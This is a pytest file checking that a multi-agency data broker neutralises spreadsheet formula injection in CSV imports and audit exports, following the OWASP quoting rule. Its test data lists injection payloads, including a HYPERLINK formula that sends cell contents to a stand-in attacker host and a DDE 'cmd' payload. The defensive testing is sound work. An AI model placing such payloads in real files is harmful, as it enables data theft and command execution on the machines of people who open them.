"""A cell a spreadsheet would run as a formula never leaves the broker as one.

Names and free text come from other agencies' systems; they reach a social landlord's
tenancy import, a jobcentre's alert import and an officer's audit export, all opened
in spreadsheets. The OWASP rule: a cell that starts with =, +, -, @, TAB, CR or LF
(also after leading spaces) is prefixed with a single quote, and every cell is
quoted, so a CR or LF inside one cannot start a row. The CSV produced is read back.
"""

from __future__ import annotations

import csv
import io

import pytest

from agency_adapters.base import to_csv
from broker.files.spreadsheet import FORMULA_STARTS, neutral_cell, write_csv
from broker.gateway import AgencyGateway
from broker.ledger.query import EXPORT_COLUMNS
from broker.ledger.query import to_csv as audit_csv
from schemas.common import ViewKind, from_data
from schemas.messages import CATALOGUE, MessageBody, derive_view, view_model
from schemas.messages.examples import example_data
from tests.test_adapter_formats import adapter, gateways

__all__ = ["gateways"]

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-Sample+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    " \t@cmd",
]
# The kinds whose received messages are CSV import rows.
CSV_KINDS = (
    "social-landlord",
    "adult-social-care",
    "jobcentre",
    "education",
    "electronic-monitoring",
)


def read_back(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def dangerous(cell: str) -> bool:
    return cell[:1] in FORMULA_STARTS or cell.lstrip()[:1] in FORMULA_STARTS


@pytest.mark.parametrize("text", FORMULAS)
def test_the_neutraliser_quotes_every_formula_start(text: str) -> None:
    cell = neutral_cell(text)
    assert cell == "'" + text
    assert neutral_cell(cell) == cell  # once is enough: a second pass changes nothing


@pytest.mark.parametrize("text", ["Alex Sample", "O'Brien", "2", "", "x=1", "a\nb"])
def test_ordinary_cells_are_left_alone(text: str) -> None:
    assert neutral_cell(text) == text


def test_written_csv_reads_back_one_row_per_row() -> None:
    rows = [[f, "plain"] for f in FORMULAS]
    back = read_back(write_csv(["cell", "other"], rows))
    assert back[0] == ["cell", "other"]
    assert [r[0] for r in back[1:]] == ["'" + f for f in FORMULAS]


def received(name: str) -> MessageBody:
    """The example level set, full view, about someone named ``name``."""
    message_type = "level-set"
    data = example_data(message_type)
    data["subject"]["name"] = name
    data["rationale"] = name
    body = from_data(CATALOGUE[message_type], data)
    return from_data(
        view_model(CATALOGUE[message_type], ViewKind.FULL), derive_view(body, ViewKind.FULL)
    )


@pytest.mark.parametrize("kind", CSV_KINDS)
@pytest.mark.parametrize("formula", FORMULAS[:4])
def test_a_formula_in_a_name_reaches_no_import_row_as_one(
    gateways: dict[str, AgencyGateway], kind: str, formula: str
) -> None:
    body = received(formula)
    row = adapter(gateways, kind).from_canonical(body, ViewKind.FULL)
    assert all(not dangerous(v) for v in row.values() if isinstance(v, str)), row
    back = read_back(to_csv([row]))
    assert len(back) == 2
    assert not [cell for cell in back[1] if dangerous(cell)], back[1]
    # The name is still there for a person to read.
    assert any(formula in cell for cell in back[1])


def test_the_social_landlords_tenant_name_cell(gateways: dict[str, AgencyGateway]) -> None:
    body = received(FORMULAS[0])
    row = adapter(gateways, "social-landlord").from_canonical(body, ViewKind.FULL)
    assert row["Tenant Name"] == "'" + FORMULAS[0]


def test_adapter_csv_writer_neutralises_whatever_it_is_given() -> None:
    rows = [{"A": f, "B": "ok"} for f in FORMULAS]
    back = read_back(to_csv(rows))
    assert [r[0] for r in back[1:]] == ["'" + f for f in FORMULAS]


def test_the_audit_export_neutralises_and_quotes() -> None:
    rows = [
        dict.fromkeys(EXPORT_COLUMNS) | {"seq": n, "reason": f, "user": f}
        for n, f in enumerate(FORMULAS, start=1)
    ]
    back = read_back(audit_csv(rows))
    assert len(back) == 1 + len(FORMULAS)
    reason = EXPORT_COLUMNS.index("reason")
    user = EXPORT_COLUMNS.index("user")
    for line, formula in zip(back[1:], FORMULAS, strict=True):
        assert line[reason] == "'" + formula
        assert line[user] == "'" + formula
        assert not [cell for cell in line if dangerous(cell)]
